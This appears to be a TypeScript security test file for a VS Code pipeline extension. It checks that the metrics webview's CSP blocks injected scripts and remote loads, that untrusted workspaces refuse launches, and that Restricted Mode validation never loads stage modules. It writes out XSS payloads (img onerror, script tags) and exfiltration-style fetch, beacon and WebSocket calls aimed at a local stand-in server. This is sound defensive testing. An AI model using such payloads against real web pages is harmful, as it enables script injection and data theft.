// R5, editor part.
//  1. The metrics webview's Content-Security-Policy, in headless Chromium, with the very
//     HTML shell the extension generates: scripts without the nonce, remote loads of every
//     kind and HTML smuggled in through the data the page shows (a hostile run record in a
//     workspace's .plumb folder reaches the panel even in Restricted Mode) must all fail.
//  2. An untrusted workspace cannot run pipelines: the debug configuration provider (every
//     F5, command, CodeLens and version-tree launch goes through it) refuses each launch.
//  3. Restricted Mode never loads a stage module while validating a pipeline file, however
//     the YAML spells `uses:` (validatePipeline's loadModules: false).
import '../extension/use-vscode-stub';
import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as path from 'node:path';
import type { AddressInfo } from 'node:net';
import { chromium } from 'playwright-core';
import { loadPipeline, runPipeline, Store } from '../../runtime/index';
import { contentSecurityPolicy, makeNonce, metricsHtml } from '../../src/metrics/html';
import { isRunRecord, type HostMessage } from '../../src/metrics/messages';
import { PlumbConfigurationProvider, UNTRUSTED_MESSAGE } from '../../src/debug/config-provider';
import { PipelineDiagnostics } from '../../src/editor/diagnostics';
import { calls, reset, state, Uri, type DiagnosticCollectionStub } from '../extension/vscode-stub';
import { workspace } from '../engine/fixture';
import { Failures, recordCheck, tempDir } from './helpers';

const DIST = path.resolve(__dirname, '../../dist/media');
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const NONCE = makeNonce();

function listen(s: http.Server): Promise<string> {
  return new Promise((resolve) => s.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(s.address() as AddressInfo).port}`)));
}

/** A script that does run (it has the nonce) tries eval and new Function. */
const EVAL = 'eval / new Function from a nonced script';

/** Each attack is page-side code that sets window.__ran[name] if it gets to run anything. */
function attacks(remote: string, origin: string): Record<string, string> {
  const flag = (n: string) => `window.__ran[${JSON.stringify(n)}]=1`;
  return {
    'inline script without nonce': `{ const s = document.createElement('script'); s.textContent = ${JSON.stringify(flag('inline script without nonce'))}; document.body.append(s); }`,
    'inline script with a wrong nonce': `{ const s = document.createElement('script'); s.nonce = 'AAAAwrongAAAA'; s.textContent = ${JSON.stringify(flag('inline script with a wrong nonce'))}; document.body.append(s); }`,
    'remote script': `{ const s = document.createElement('script'); s.src = '${remote}/evil.js?n=remote%20script'; document.body.append(s); }`,
    'same-origin script without nonce': `{ const s = document.createElement('script'); s.src = '${origin}/evil.js?n=same-origin%20script%20without%20nonce'; document.body.append(s); }`,
    'inline event handler': `{ const d = document.createElement('div'); d.innerHTML = '<img src="data:image/png;base64,AAAA" onerror="${flag('inline event handler').replace(/"/g, '&quot;')}">'; document.body.append(d); }`,
    'javascript: URL': `{ const a = document.createElement('a'); a.href = 'javascript:${flag('javascript: URL')}'; document.body.append(a); a.click(); }`,
    [EVAL]: `{ const s = document.createElement('script'); s.nonce = '${NONCE}'; s.textContent = "window.__ran.control = 1; try { eval('window.__ran.evaluated = 1'); } catch (e) {} try { new Function('window.__ran.evaluated = 1')(); } catch (e) {}"; document.body.append(s); }`,
    'remote image': `{ const i = document.createElement('img'); i.src = '${remote}/pixel.png'; document.body.append(i); }`,
    'remote stylesheet': `{ const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${remote}/style.css'; document.head.append(l); }`,
    'remote font': `{ const s = document.createElement('style'); s.nonce = '${NONCE}'; s.textContent = "@font-face { font-family: evil; src: url('${remote}/font.woff'); } body { font-family: evil; }"; document.head.append(s); document.body.append('text in the evil font'); }`,
    'fetch to a remote host': `fetch('${remote}/fetch').catch(() => {});`,
    'XMLHttpRequest': `{ const x = new XMLHttpRequest(); try { x.open('GET', '${remote}/xhr'); x.send(); } catch (e) {} }`,
    'WebSocket': `try { new WebSocket('${remote.replace('http', 'ws')}/ws'); } catch (e) {}`,
    'sendBeacon': `try { navigator.sendBeacon('${remote}/beacon', 'x'); } catch (e) {}`,
    'remote iframe': `{ const f = document.createElement('iframe'); f.src = '${remote}/frame.html'; document.body.append(f); }`,
    'object element': `{ const o = document.createElement('object'); o.data = '${remote}/object.swf'; document.body.append(o); }`,
    'worker from a remote script': `try { new Worker('${remote}/worker.js'); } catch (e) {}`,
  };
}

const PAYLOAD = (remote: string) => `<img src="${remote}/xss.png" onerror="window.__ran.xss=1"><script>window.__ran.xss=1</script>`;

test('R5 (editor): the metrics webview CSP blocks scripts without the nonce and every remote load', { timeout: 120_000 }, async (t) => {
  assert.ok(fs.existsSync(path.join(DIST, 'metrics.js')), 'dist/media/metrics.js is built (npm run build)');
  assert.ok(fs.existsSync(CHROMIUM), `Chromium at ${CHROMIUM} (apt-get install -y chromium)`);
  const remoteHits: string[] = [];
  const sameOriginScriptHits: string[] = [];
  let origin = '';
  const server = http.createServer((req, res) => {
    if (req.url === '/') return void res.writeHead(200, { 'content-type': 'text/html' }).end(metricsHtml({ cspSource: origin, scriptUri: `${origin}/metrics.js`, styleUri: `${origin}/metrics.css`, nonce: NONCE }));
    if (req.url === '/metrics.js' || req.url === '/metrics.css') {
      return void res.writeHead(200, { 'content-type': req.url.endsWith('.js') ? 'text/javascript' : 'text/css' }).end(fs.readFileSync(path.join(DIST, req.url.slice(1))));
    }
    if (req.url?.startsWith('/evil.js')) {
      sameOriginScriptHits.push(req.url);
      return void res.writeHead(200, { 'content-type': 'text/javascript' }).end(`window.__ran[${JSON.stringify(decodeURIComponent(req.url.split('n=')[1] ?? 'evil'))}] = 1;`);
    }
    res.writeHead(404).end();
  });
  const remote = http.createServer((req, res) => {
    remoteHits.push(req.url ?? '');
    const js = req.url?.startsWith('/evil.js') || req.url?.startsWith('/worker.js');
    res.writeHead(200, { 'content-type': js ? 'text/javascript' : 'text/plain' }).end(js ? `window.__ran && (window.__ran['remote script'] = 1);` : '');
  });
  origin = await listen(server);
  const remoteOrigin = await listen(remote);
  t.after(() => {
    server.close();
    remote.close();
  });

  // Real run records (the same toy pipeline the webview test runs), then a hostile copy.
  const ws = workspace(undefined, 200);
  t.after(() => ws.cleanup());
  const spec = await loadPipeline(ws.file);
  await runPipeline(spec, { mode: 'train' });
  const runs = ((await new Store(spec.store).listRuns('toy')) as unknown[]).filter(isRunRecord);
  assert.equal(runs.length, 1);
  const hostile = structuredClone(runs[0]) as unknown as Record<string, unknown> & { stages: Record<string, unknown>[] };
  const payload = PAYLOAD(remoteOrigin);
  hostile.runId = payload;
  hostile.pipeline = payload;
  for (const s of hostile.stages) {
    s.name = `${String(s.name)}${payload}`;
    s.uses = payload;
  }

  const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
  t.after(() => browser.close());
  const page = await browser.newPage();
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page.addInitScript({
    content: `window.__ran = {}; window.__violations = [];
      window.acquireVsCodeApi = () => ({ postMessage: () => {}, getState: () => undefined, setState: () => {} });
      document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));`,
  });
  await page.goto(`${origin}/`);
  await page.waitForSelector('#charts');

  const failures = new Failures();
  const list = attacks(remoteOrigin, origin);
  // From a timer, i.e. as the page's own code: inside a DevTools evaluate call Chromium
  // lets eval through (a debugger convenience), which would make the check meaningless.
  for (const code of Object.values(list)) await page.evaluate(`setTimeout(() => { ${code} }, 0)`);
  // Hostile data through every message the page draws.
  const messages: HostMessage[] = [
    { type: 'history', pipeline: payload, runs: [hostile as never], versions: [{ version: 1, time: Date.now(), metrics: { [payload]: 1 }, aliases: [payload] }] },
    { type: 'live', run: hostile as never },
    { type: 'table', table: { title: payload, shape: payload, header: [payload, 'b'], rows: [[payload, payload]] } },
    { type: 'error', message: payload },
  ];
  for (const m of messages) await page.evaluate(`window.postMessage(${JSON.stringify(m)}, '*')`);
  await page.waitForTimeout(800); // let every blocked load and handler have its chance

  const ran = (await page.evaluate('window.__ran')) as Record<string, number>;
  const violations = (await page.evaluate('window.__violations')) as string[];
  if (!ran.control) failures.add('control: a script WITH the nonce did not run, so the check proves nothing');
  for (const name of Object.keys(list)) if (ran[name] || (name === EVAL && ran.evaluated)) failures.add(`${name}: it ran`);
  if (ran.xss) failures.add('hostile message data: its markup ran');
  for (const hit of remoteHits) failures.add(`a request reached the remote host: ${hit}`);
  if (sameOriginScriptHits.length) {
    // Fetching is allowed by nothing in script-src; record it even if it did not execute.
    failures.add(`same-origin scripts without the nonce were fetched: ${sameOriginScriptHits.join(', ')}`);
  }
  const bodyText = (await page.evaluate('document.body.textContent')) as string;
  if (!bodyText.includes('<img src=')) failures.add('hostile message data is not shown as text (was it parsed as markup?)');
  const injectedImgs = (await page.evaluate(`document.querySelectorAll('#charts img, #title img, #run img').length`)) as number;
  if (injectedImgs) failures.add(`hostile message data created ${injectedImgs} <img> elements`);
  const csp = contentSecurityPolicy(origin, NONCE);
  for (const need of ["default-src 'none'", `script-src 'nonce-${NONCE}'`]) if (!csp.includes(need)) failures.add(`the CSP lacks ${need}: ${csp}`);
  if (/unsafe-(inline|eval)/.test(csp)) failures.add(`the CSP allows unsafe-*: ${csp}`);
  if (makeNonce() === makeNonce() || makeNonce().length < 16) failures.add('nonces are not fresh, or shorter than 16 characters');
  await page.close();

  await recordCheck('R5-webview-csp', {
    title: 'Metrics webview CSP in headless Chromium',
    trials: 1,
    cases: Object.keys(list).length + messages.length + 4,
    failures: failures.count,
    examples: failures.examples,
    attacks: Object.keys(list),
    hostileMessages: messages.map((m) => m.type),
    blockedByCsp: violations.length,
    violatedDirectives: [...new Set(violations.map((v) => v.split(' ')[0]))].sort(),
    remoteRequests: remoteHits.length,
    pageErrors: errors.length,
  });
  assert.equal(failures.count, 0, failures.examples.join('\n'));
});

test('R5 (editor): in an untrusted workspace the debug configuration provider refuses every launch', async () => {
  const provider = new PlumbConfigurationProvider();
  const folder = { uri: Uri.file('/w'), name: 'w', index: 0 };
  const launches: Record<string, Record<string, unknown>> = {
    'F5 with no launch.json': {},
    'launch.json entry': { type: 'plumb', request: 'launch', name: 'mine', pipeline: '/w/a.pipeline.yaml' },
    'Run Pipeline (noDebug)': { type: 'plumb', request: 'launch', name: 'Run a.pipeline.yaml', pipeline: '/w/a.pipeline.yaml', noDebug: true },
    'inference with a version': { type: 'plumb', request: 'launch', name: 'inference', pipeline: '/w/a.pipeline.yaml', mode: 'inference', version: 'champion' },
    'CodeLens start from a stage': { type: 'plumb', request: 'launch', name: 'lens', pipeline: '/w/a.pipeline.yaml', stopAfterStage: 'scale' },
  };
  const failures = new Failures();
  let cases = 0;
  for (const [label, config] of Object.entries(launches)) {
    for (const stage of ['resolveDebugConfiguration', 'resolveDebugConfigurationWithSubstitutedVariables'] as const) {
      reset();
      state.isTrusted = false;
      state.activeTextEditor = { document: { uri: Uri.file('/w/a.pipeline.yaml'), languageId: 'plumb-pipeline' } };
      cases++;
      const out = provider[stage](folder as never, config as never);
      if (out !== undefined) failures.add(`${label} → ${stage} returned a configuration: ${JSON.stringify(out)}`);
      else if (calls.errors.join() !== UNTRUSTED_MESSAGE) failures.add(`${label} → ${stage} said ${JSON.stringify(calls.errors)}`);
    }
    // Control: the same launch is accepted once the workspace is trusted.
    reset();
    state.activeTextEditor = { document: { uri: Uri.file('/w/a.pipeline.yaml'), languageId: 'plumb-pipeline' } };
    cases++;
    if (provider.resolveDebugConfiguration(folder as never, config as never) === undefined) failures.add(`${label}: refused even when trusted`);
  }
  reset();
  await recordCheck('R5-untrusted-launch', {
    title: 'Untrusted workspace: the debug configuration provider refuses every launch',
    trials: Object.keys(launches).length,
    cases,
    failures: failures.count,
    examples: failures.examples,
    launches: Object.keys(launches),
  });
  assert.equal(failures.count, 0, failures.examples.join('\n'));
});

// Every way YAML can say `uses: ./side.js`. The module writes a marker file when loaded.
const USES_FORMS: Record<string, string> = {
  'block mapping': '  - stage: s\n    uses: ./side.js\n',
  'value on the next line': '  - stage: s\n    uses:\n      ./side.js\n',
  'flow mapping': '  - { stage: s, uses: ./side.js }\n',
  'folded block scalar': '  - stage: s\n    uses: >-\n      ./side.js\n',
  'quoted key': '  - stage: s\n    "uses": ./side.js\n',
  'explicit tag': '  - stage: s\n    uses: !!str ./side.js\n',
  'anchor': '  - stage: s\n    uses: &m ./side.js\n',
  'complex key': '  - stage: s\n    ? uses\n    : ./side.js\n',
  'escaped quoted value': '  - stage: s\n    uses: "\\x2E/side.js"\n',
};

test('R5 (editor): Restricted Mode validation never loads a stage module', async (t) => {
    const dir = tempDir(t, 'plumb-untrusted-');
    fs.writeFileSync(path.join(dir, 'd.csv'), 'a\n1\n');
    const marker = path.join(dir, 'ran.txt');
    const failures = new Failures();
    for (const [i, [form, stage]] of Object.entries(USES_FORMS).entries()) {
      // A module of its own per form: node caches a loaded module, which would hide a second load.
      fs.writeFileSync(path.join(dir, `side-${i}.js`), `require('fs').writeFileSync(${JSON.stringify(marker)}, 'loaded'); module.exports = (t) => t;\n`);
      fs.rmSync(marker, { force: true });
      const file = path.join(dir, 'p.pipeline.yaml');
      const text = `pipeline: p\ndata: { train: d.csv }\ntraining:\n${stage.replace('side.js', `side-${i}.js`)}`;
      const d = new PipelineDiagnostics(() => false);
      await d.validate({ uri: Uri.file(file), languageId: 'plumb-pipeline', getText: () => text } as never);
      const codes = ((d.collection as unknown as DiagnosticCollectionStub).entries.get(Uri.file(file).toString()) ?? []).map((x) => x.code);
      d.dispose();
      if (fs.existsSync(marker)) failures.add(`${form}: the module was loaded (its code ran) in Restricted Mode; diagnostics: ${codes.join(', ') || 'none'}`);
    }
    await recordCheck('R5-untrusted-validation', {
      title: 'Restricted Mode: validating a pipeline file never loads its stage modules',
      trials: 1,
      cases: Object.keys(USES_FORMS).length,
      failures: failures.count,
      examples: failures.examples,
      forms: Object.keys(USES_FORMS),
    });
    assert.equal(failures.count, 0, failures.examples.join('\n'));
});
